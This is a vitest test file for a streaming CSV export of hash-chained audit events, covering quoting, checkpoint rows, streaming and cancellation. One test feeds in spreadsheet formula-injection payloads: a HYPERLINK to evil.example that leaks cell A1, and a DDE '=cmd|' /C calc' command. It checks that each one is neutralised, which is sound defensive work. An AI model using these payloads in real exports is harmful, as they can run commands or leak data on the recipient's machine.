import { describe, expect, it } from "vitest";
import type { ChainedAuditEvent } from "@/lib/audit/audit-hash";
import { CSV_COLUMNS, exportEventsCsv } from "./export-events-csv";
import { parseCsv } from "./testing/parse-csv";
import { readText } from "./testing/read-text";
import { scriptedRollout } from "./testing/scripted-rollout";
import { syntheticEvents } from "./testing/synthetic-events";
import { testLogHead } from "./testing/test-checkpoints";
import { toReadableStream } from "./to-readable-stream";

const HASH_A = "a".repeat(64);
const HASH_B = "b".repeat(64);

function event(fields: Partial<ChainedAuditEvent>): ChainedAuditEvent {
  return {
    seq: "1",
    at: "2026-11-23T10:00:00.000Z",
    actorId: null,
    actorEmail: null,
    kind: "test.event",
    nodeId: null,
    planId: null,
    data: {},
    prevHash: HASH_A,
    hash: HASH_B,
    ...fields,
  };
}

async function csvRecords(events: ChainedAuditEvent[]): Promise<Record<string, string>[]> {
  const text = await readText(exportEventsCsv(events, { bom: false }));
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([...CSV_COLUMNS]);
  return rows.map((row) => Object.fromEntries(row.map((cell, index) => [CSV_COLUMNS[index] ?? `extra${index}`, cell])));
}

describe("exportEventsCsv", () => {
  it("writes one RFC 4180 row per event, starting with a BOM and the header", async () => {
    const text = await readText(exportEventsCsv(scriptedRollout().events));
    expect(text.startsWith("\uFEFFseq,at,kind,actor,node,plan,summary,data,prev_hash,hash\r\n")).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(scriptedRollout().events.length);
    expect(rows.every((row) => row.length === CSV_COLUMNS.length)).toBe(true);
  });

  it("ends with the log's signed head as an audit.checkpoint row that no event can be mistaken for", async () => {
    const { events, generatedAt } = scriptedRollout();
    const checkpoint = testLogHead(events, generatedAt);
    const [header, ...rows] = parseCsv(await readText(exportEventsCsv(events, { bom: false, checkpoint })));
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(events.length + 1);
    const record: Record<string, string> = Object.fromEntries(
      rows.at(-1)!.map((cell, index) => [CSV_COLUMNS[index] ?? `extra${index}`, cell]),
    );
    expect(record).toMatchObject({ seq: "", kind: "audit.checkpoint", at: checkpoint.at, hash: checkpoint.hash, prev_hash: "" });
    expect(JSON.parse(record.data ?? "")).toEqual(checkpoint);
    expect(record.summary).toContain(`#${checkpoint.sequence}`);
  });

  it("fills the columns from the event: node name over id, email over user id, summary from describeEvent", async () => {
    const [activated, automatic] = await csvRecords([
      event({
        seq: "7",
        at: "2026-11-23T10:05:30Z",
        kind: "step.activated",
        actorId: "user_bob",
        actorEmail: "bob@ops.example",
        nodeId: "node_1",
        planId: "plan_1",
        data: { kind: "restart", node: "node-01", targetWeight: null },
      }),
      event({
        seq: "8",
        kind: "plan.paused",
        actorId: "user_x",
        nodeId: "node_2",
        planId: "plan_1",
        data: { reason: "r", automatic: true },
      }),
    ]);
    expect(activated).toEqual({
      seq: "7",
      at: "2026-11-23T10:05:30.000Z",
      kind: "step.activated",
      actor: "bob@ops.example",
      node: "node-01",
      plan: "plan_1",
      summary: "bob@ops.example activated restart on node-01",
      data: '{"kind":"restart","node":"node-01","targetWeight":null}',
      prev_hash: HASH_A,
      hash: HASH_B,
    });
    expect(automatic).toMatchObject({ actor: "user_x", node: "node_2", summary: "user user_x paused the plan automatically: r" });
  });

  it("neutralises formula injection in every column, negative numbers included", async () => {
    const [row] = await csvRecords([
      event({
        kind: "-2+3",
        actorEmail: '=HYPERLINK("http://evil.example","x")',
        nodeId: "@SUM(A1)",
        planId: "\t=1+1",
        data: -12.5,
      }),
    ]);
    expect(row).toMatchObject({
      kind: "'-2+3",
      actor: `'=HYPERLINK("http://evil.example","x")`,
      node: "'@SUM(A1)",
      plan: "'\t=1+1",
      data: "'-12.5",
    });
    // The summary starts with the unknown kind, so it is a formula-looking "-2+3 by =HYPERLINK(…)".
    expect(row?.summary).toBe(`'-2+3 by =HYPERLINK("http://evil.example","x")`);

    const [negative] = await csvRecords([event({ kind: "+1", data: { delta: -5 }, actorEmail: "+15550100@sms.example" })]);
    expect(negative).toMatchObject({ kind: "'+1", actor: "'+15550100@sms.example", data: '{"delta":-5}' });
    expect(negative?.summary).toBe("'+1 by +15550100@sms.example");

    const [carriage] = await csvRecords([event({ actorEmail: "\r=cmd|' /C calc'!A0", kind: "auth.signed_in" })]);
    expect(carriage?.actor).toBe("'\r=cmd|' /C calc'!A0");
    // describeEvent flattens whitespace, and the flattened summary starts with "=": still neutralised.
    expect(carriage?.summary).toBe("'=cmd|' /C calc'!A0 signed in");
  });

  it("keeps the formula-looking failed sign-in of the scripted rollout inert", async () => {
    const text = await readText(exportEventsCsv(scriptedRollout().events, { bom: false }));
    const rows = parseCsv(text);
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^ *[=+\-@\t\r]/);
    }
    const failed = rows.find((row) => row[2] === "auth.sign_in_failed");
    expect(failed?.[6]).toBe(`failed sign-in for =HYPERLINK("http://evil.example/?x="&A1,"Open")`);
  });

  it("quotes commas, double quotes and line breaks so they survive a round trip", async () => {
    const awkward = 'a, "quoted" value\r\nwith a second line, and a trailing quote"';
    const [row] = await csvRecords([event({ kind: "x,y", actorEmail: awkward, planId: 'say "hi"', data: { note: awkward } })]);
    expect(row).toMatchObject({ kind: "x,y", actor: awkward, plan: 'say "hi"', data: JSON.stringify({ note: awkward }) });
    const text = await readText(exportEventsCsv([event({ kind: "x,y", planId: 'say "hi"' })], { bom: false }));
    expect(text).toContain('"x,y"');
    expect(text).toContain('"say ""hi"""');
    // A lone CR or LF must be quoted too, or a spreadsheet splits the row there.
    const [lone] = await csvRecords([event({ actorEmail: "cr\ronly", planId: "lf\nonly" })]);
    expect(lone).toMatchObject({ actor: "cr\ronly", plan: "lf\nonly" });
  });

  it("writes just the header for no events", async () => {
    expect(await readText(exportEventsCsv([], { bom: false }))).toBe(`${CSV_COLUMNS.join(",")}\r\n`);
  });

  it("streams 100,000 events without reading ahead: at most one chunk of rows is ever buffered", async () => {
    const { events, progress } = syntheticEvents(100_000);
    const rowsPerChunk = 256;
    let chunks = 0;
    let rows = 0;
    let bytes = 0;
    let producedAtFirstRows: number | null = null;
    for await (const chunk of exportEventsCsv(events, { rowsPerChunk })) {
      chunks += 1;
      if (chunks === 1) {
        // The header goes out before the exporter reads anything.
        expect(progress.produced).toBe(0);
        continue;
      }
      producedAtFirstRows ??= progress.produced;
      const chunkRows = chunk.split("\r\n").length - 1;
      rows += chunkRows;
      bytes += chunk.length;
      // Each chunk is emitted as soon as its rows are read: the exporter holds at most one
      // partial chunk plus the event it is looking at, never the whole log.
      expect(progress.produced - rows).toBeLessThanOrEqual(1);
      expect(progress.finished).toBe(progress.produced === 100_000);
    }
    expect(producedAtFirstRows).toBe(rowsPerChunk);
    expect(rows).toBe(100_000);
    expect(chunks).toBe(1 + Math.ceil(100_000 / rowsPerChunk));
    expect(bytes).toBeGreaterThan(10_000_000);
    expect(progress.finished).toBe(true);
  });

  it("stops reading events when the HTTP client goes away", async () => {
    const { events, progress } = syntheticEvents(100_000);
    const reader = toReadableStream(exportEventsCsv(events, { rowsPerChunk: 100 })).getReader();
    await reader.read();
    await reader.read();
    await reader.cancel("client disconnected");
    expect(progress.closed).toBe(true);
    expect(progress.finished).toBe(false);
    expect(progress.produced).toBeLessThanOrEqual(300);
  });
});
